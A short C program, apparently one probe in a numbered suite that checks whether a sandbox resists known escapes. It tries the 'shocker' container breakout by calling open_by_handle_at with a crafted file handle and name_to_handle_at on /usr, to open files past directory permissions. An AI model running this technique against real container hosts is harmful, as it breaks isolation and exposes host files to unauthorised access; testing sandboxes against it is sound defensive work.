/* K10: a file handle opened past every directory permission ("shocker"). */
#include "attack.h"

int main(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[64];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int mount_id = 0;
    TRY("open_by_handle_at",
        syscall(SYS_open_by_handle_at, open("/usr", O_RDONLY), &handle, O_RDONLY));
    handle.head.handle_bytes = 64;
    TRY("name_to_handle_at",
        syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &handle, &mount_id, 0));
    return 0;
}
